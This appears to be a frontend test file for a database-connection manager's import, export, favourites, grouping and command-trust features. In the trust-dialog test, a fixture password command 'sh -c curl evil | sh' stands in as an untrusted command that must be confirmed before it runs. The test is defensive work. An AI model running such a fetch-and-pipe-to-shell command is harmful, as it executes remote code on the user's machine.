import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import { configure, render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import axe from "axe-core";
import type { ReactNode } from "react";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { CommandsProvider } from "@/commands";
import { DesignRoot } from "@/design";
import { setHost } from "@/ipc";
import { type FakeHost, fakeFailure, fakeHost, STAGING } from "@/ipc/fake";
import { HomePage, mayRun, TrustDialog } from ".";
import { ImportPage } from "./ImportPage";
import { closeImport } from "./importing";
import { outcomeWords, statusWords } from "./imports";

vi.setConfig({ testTimeout: 30_000 });
configure({ asyncUtilTimeout: 8_000 });

let host: FakeHost;

beforeEach(() => {
  host = fakeHost();
  setHost(host);
  closeImport();
});

function show(node: ReactNode) {
  const client = new QueryClient({ defaultOptions: { queries: { retry: false } } });
  return render(
    <QueryClientProvider client={client}>
      <DesignRoot theme="light">
        <CommandsProvider own={{}}>
          <main>{node}</main>
        </CommandsProvider>
      </DesignRoot>
    </QueryClientProvider>,
  );
}

const nothing = () => {};
const keychain = { name: "Secret Service", works: true, reason: null };

const home = (
  <HomePage states={[]} onOpen={nothing} onNew={nothing} onEdit={nothing} onOpenSample={nothing} onOpenFile={nothing} />
);

describe("an import", () => {
  it("lists what is on this computer, reads it, and saves what is chosen", async () => {
    const onClose = vi.fn();
    const { baseElement } = show(<ImportPage keychain={keychain} onClose={onClose} />);
    const user = userEvent.setup();
    await user.click(await screen.findByRole("button", { name: /^Read .*data-sources\.json$/ }));
    const list = await screen.findByRole("list", { name: "Found connections" });
    expect(within(list).getByText("through bastion.shop.internal · postgresql")).toBeTruthy();
    expect(within(list).getByText(/aws rds generate-db-auth-token/)).toBeTruthy();
    const duplicate = within(list).getByRole("checkbox", { name: "Import shop-prod" }) as HTMLInputElement;
    expect(duplicate.checked).toBe(false);
    expect((within(list).getByRole("checkbox", { name: "Import Legacy" }) as HTMLInputElement).disabled).toBe(true);
    const found = await axe.run(baseElement, {
      rules: {
        region: { enabled: false },
        "color-contrast": { enabled: false },
        "page-has-heading-one": { enabled: false },
      },
    });
    expect(found.violations.map((one) => `${one.id}: ${one.nodes[0]?.html ?? ""}`)).toEqual([]);

    await user.click(within(list).getByRole("checkbox", { name: "Import tokens" }));
    await user.click(screen.getByText("Into the keychain"));
    await waitFor(() => expect(screen.getByText("into the keychain")).toBeTruthy());
    expect(host.fake.callsOf("previewImport").map(([request]) => request)).toMatchObject([
      { with_passwords: false },
      { with_passwords: true },
    ]);
    await user.click(screen.getByRole("button", { name: "Import 2 connections" }));
    expect((await screen.findAllByText("1 connection is new, 1 is changed.")).length).toBeGreaterThan(0);
    expect(host.fake.callsOf("applyImport")).toEqual([["preview", [0, 2]]]);
    await user.click(screen.getByRole("button", { name: "Show connections" }));
    expect(onClose).toHaveBeenCalledTimes(1);
  });

  it("says what is wrong with a file and goes one step back by Escape", async () => {
    const onClose = vi.fn();
    show(<ImportPage keychain={keychain} onClose={onClose} />);
    host.fake.fail("previewImport", fakeFailure("corrupt", "The JSON is broken at line 3, column 7."), 1);
    const user = userEvent.setup();
    await user.click(await screen.findByRole("button", { name: /^Read .*pg_service\.conf$/ }));
    expect(await screen.findByText(/broken at line 3/)).toBeTruthy();
    await user.click(screen.getByRole("button", { name: /^Read .*pg_service\.conf$/ }));
    await screen.findByRole("list", { name: "Found connections" });
    await user.keyboard("{Escape}");
    await screen.findByText("On this computer");
    expect(onClose).not.toHaveBeenCalled();
    await user.keyboard("{Escape}");
    expect(onClose).toHaveBeenCalledTimes(1);
  });

  it("is opened from the first page, and comes back to it", async () => {
    show(home);
    const user = userEvent.setup();
    await user.click(await screen.findByRole("button", { name: "Import" }));
    await user.click(await screen.findByRole("button", { name: "Back" }));
    expect(await screen.findByRole("heading", { name: "Connections" })).toBeTruthy();
  });

  it("keeps no password where there is no keychain", async () => {
    const none = { name: "Secret Service", works: false, reason: "It is not running." };
    show(<ImportPage keychain={none} onClose={nothing} />);
    const user = userEvent.setup();
    await user.click(await screen.findByRole("button", { name: /^Read .*pg_service\.conf$/ }));
    expect(await screen.findByText(/No keychain here/)).toBeTruthy();
    await user.click(screen.getByText("Into the keychain"));
    expect(host.fake.callsOf("previewImport").every(([request]) => !JSON.stringify(request).includes("true"))).toBe(
      true,
    );
  });

  it("tells in words what it does", () => {
    expect(outcomeWords({ added: [], updated: [], failed: ["x"] })).toBe("Nothing was saved.");
    expect(outcomeWords({ added: ["a", "b"], updated: [], failed: [] })).toBe("2 connections are new.");
    const differences = [{ field: "host", before: null, after: "b" }];
    expect(statusWords({ kind: "update", profile_id: "p", differences }).detail).toBe("host: not set becomes b");
  });
});

describe("an export", () => {
  it("asks where to and says that passwords are not in it", async () => {
    show(home);
    const user = userEvent.setup();
    await screen.findByRole("option", { name: /shop-prod/ });
    await user.click(screen.getByRole("button", { name: "Export" }));
    await waitFor(() => expect(host.fake.callsOf("exportConnections")).toHaveLength(1));
    expect(await screen.findByText(/exported, without passwords/)).toBeTruthy();
  });
});

describe("favourites", () => {
  it("stand first, by a star, the menu or a key", async () => {
    show(home);
    const user = userEvent.setup();
    await screen.findByRole("option", { name: /shop-staging/ });
    await waitFor(() => expect(document.activeElement).toBe(screen.getByRole("listbox")));
    await user.keyboard("{ArrowDown}*");
    expect(host.fake.callsOf("setFavourite")).toEqual([[STAGING, true]]);
  });
});

describe("groups", () => {
  it("take a connection over from its menu, with everything else as it was", async () => {
    host.fake.world.profiles = host.fake.world.profiles.map((each) =>
      each.id === STAGING ? { ...each, group: null } : each,
    );
    show(home);
    const user = userEvent.setup();
    const row = await screen.findByRole("option", { name: /shop-staging/ });
    await user.pointer({ keys: "[MouseRight]", target: row });
    await user.hover(await screen.findByRole("menuitem", { name: "Group" }));
    await user.click(await screen.findByRole("menuitemcheckbox", { name: "Shop" }));
    const before = host.fake.world.profiles.find((each) => each.id === STAGING);
    await waitFor(() => expect(host.fake.callsOf("saveProfile")).toHaveLength(1));
    expect(host.fake.callsOf("saveProfile")[0]?.[0]).toMatchObject({
      id: STAGING,
      group: "Shop",
      name: before?.name,
      values: before?.values,
      password: { kind: "keep" },
    });
  });
});

describe("a command of a file", () => {
  it("is shown to the letter, and runs only after a yes", async () => {
    const argv = ["sh", "-c", "curl evil | sh"];
    const profile = {
      ...(host.fake.world.profiles.find((each) => each.id === STAGING) ?? host.fake.world.profiles[0]),
      untrusted_command: "digest",
      password_command: { argv, shell: false, timeout_s: 30 },
    } as Parameters<typeof mayRun>[0];
    show(<TrustDialog />);
    const user = userEvent.setup();
    const refused = mayRun(profile);
    expect(await screen.findByText("sh -c 'curl evil | sh'")).toBeTruthy();
    expect(document.activeElement?.textContent).toContain("Do not run it");
    await user.keyboard("{Escape}");
    expect(await refused).toBe(false);
    expect(host.fake.callsOf("trustCommand")).toEqual([]);

    const trusted = mayRun(profile);
    host.fake.fail("trustCommand", fakeFailure("conflict", "The command has changed since it was shown."), 1);
    await user.click(await screen.findByRole("button", { name: "Trust and connect" }));
    expect(await screen.findByText(/has changed since/)).toBeTruthy();
    await user.click(screen.getByRole("button", { name: "Trust and connect" }));
    expect(await trusted).toBe(true);
    expect(host.fake.callsOf("trustCommand").at(-1)).toEqual([STAGING, "digest"]);
  });

  it("is no question where there is nothing to trust", async () => {
    expect(await mayRun(undefined)).toBe(true);
    expect(await mayRun(host.fake.world.profiles[0])).toBe(true);
  });
});
